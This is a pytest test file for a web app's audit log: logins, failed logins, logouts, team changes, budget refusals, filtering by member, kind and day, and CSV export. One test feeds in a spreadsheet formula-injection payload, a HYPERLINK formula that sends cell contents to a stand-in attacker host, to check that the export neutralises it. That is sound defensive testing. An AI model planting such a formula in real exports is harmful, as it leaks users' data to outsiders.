"""The audit log (issue 9, "An audit log"): logins and failed ones, logouts, Team
page changes and budget refusals, with who, what and when; filtered; as CSV.

Logins go through the real `webapp.auth.throttle.authenticate` (which writes
`login_events`); a real SQLite file and PostgreSQL (ABLT_TEST_PG_URL).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.pg import BACKENDS, store_on
from webapp.audit import BUDGET_REFUSAL, FAILED_LOGIN, LOGIN, LOGOUT, TEAM_CHANGE, AuditLog
from webapp.audit.log import CSV_COLUMNS, day_bounds
from webapp.audit.view import audit_csv, csv_file_name
from webapp.auth import passwords
from webapp.auth.throttle import authenticate
from webapp.auth.throttle_store import LoginLog
from webapp.conversations.store import ConversationStore
from webapp.team import Team

ADDRESS = "203.0.113.9"


@pytest.fixture(autouse=True)
def fast_bcrypt(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(passwords, "BCRYPT_ROUNDS", 4)


class Clock:
    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture(params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[ConversationStore]:
    with store_on(request.param, tmp_path, "audit") as opened:
        yield opened


@pytest.fixture
def team(tmp_path: Path) -> Team:
    team = Team(tmp_path / "auth.yaml", {"credentials": {"usernames": {}}})
    team.add("ann", name="Ann", email="ann@example.com", password="ann-right-password")
    team.add("boss", name="Bo Boss", email="bo@example.com", password="boss-password", role="admin")
    team.save()
    return team


def test_logins_failed_logins_logouts_changes_and_refusals_are_all_in_the_log(
    store: ConversationStore, team: Team
) -> None:
    logins = LoginLog(store.engine)
    audit = AuditLog(store.engine)
    assert authenticate(team, "ann", "a wrong password", ADDRESS, logins).member is None
    assert authenticate(team, "ann", "ann-right-password", ADDRESS, logins).member is not None
    logins.logout("ann", ADDRESS)
    audit.record_change(team.get("boss"), "set role", "ann", "member -> admin")
    audit.record_refusal("ann", "1,200 of 1,000 words used this month")

    entries = audit.entries()
    newest_first = [(e.kind, e.actor, e.target) for e in entries]
    assert newest_first == [
        (BUDGET_REFUSAL, "ann", None),
        (TEAM_CHANGE, "boss", "ann"),
        (LOGOUT, "ann", None),
        (LOGIN, "ann", None),
        (FAILED_LOGIN, "ann", None),
    ]
    by_kind = {e.kind: e for e in entries}
    assert by_kind[TEAM_CHANGE].action == "set role"
    assert by_kind[TEAM_CHANGE].detail == "member -> admin"
    assert by_kind[FAILED_LOGIN].address == ADDRESS
    assert "wrong username or password" in by_kind[FAILED_LOGIN].action
    assert all(e.at.tzinfo is not None for e in entries)
    assert [e.at for e in entries] == sorted((e.at for e in entries), reverse=True)


def test_the_log_filters_by_member_kind_and_whole_utc_days(store: ConversationStore) -> None:
    clock = Clock(datetime(2026, 11, 3, 23, 59, 59, tzinfo=UTC))
    audit = AuditLog(store.engine, clock=clock)
    logins = LoginLog(store.engine, clock=clock)
    audit.record_change("boss", "add member", "ann")  # Nov 3
    clock.now = datetime(2026, 11, 4, 0, 0, 0, tzinfo=UTC)
    logins.logout("ann")  # Nov 4
    clock.now += timedelta(seconds=1)
    audit.record_refusal("cy", "over")  # Nov 4
    clock.now = datetime(2026, 11, 5, 12, tzinfo=UTC)
    audit.record_change("boss", "set budget", None, "team: 10,000 words a month")  # Nov 5

    def kinds(**filters: object) -> list[tuple[str, str | None]]:
        return [(e.kind, e.action) for e in audit.entries(**filters)]  # type: ignore[arg-type]

    # Ann acted (logout) or was acted on (added): both are hers.
    assert kinds(member="Ann") == [(LOGOUT, "logged out"), (TEAM_CHANGE, "add member")]
    assert kinds(kinds=[BUDGET_REFUSAL]) == [(BUDGET_REFUSAL, "sending refused (budget used up)")]
    assert len(audit.entries(kinds=[TEAM_CHANGE])) == 2
    assert kinds(
        start=clock.now.date() - timedelta(days=1), end=clock.now.date() - timedelta(days=1)
    ) == [
        (BUDGET_REFUSAL, "sending refused (budget used up)"),
        (LOGOUT, "logged out"),
    ]
    assert len(audit.entries(end=datetime(2026, 11, 3, tzinfo=UTC).date())) == 1
    assert audit.entries(member="nobody") == []
    assert day_bounds(None, None) == (None, None)


def test_the_csv_export_has_every_line_and_runs_no_formula(store: ConversationStore) -> None:
    audit = AuditLog(store.engine)
    audit.record_change("boss", "rename member", "ann", '=HYPERLINK("http://evil.example/?"&A1)')
    audit.record_refusal("ann", "+1 over")
    entries = audit.entries()
    data = audit_csv(entries)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["kind"] for r in rows] == [BUDGET_REFUSAL, TEAM_CHANGE]
    assert rows[1]["detail"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert rows[0]["detail"] == "'+1 over"
    assert rows[1]["who"] == "boss" and rows[1]["target"] == "ann"
    datetime.strptime(rows[0]["when (UTC)"], "%Y-%m-%d %H:%M:%S")  # ISO, to the second
    assert csv_file_name(datetime(2026, 11, 1).date(), datetime(2026, 11, 30).date()) == (
        "ablt-audit-2026-11-01-to-2026-11-30.csv"
    )
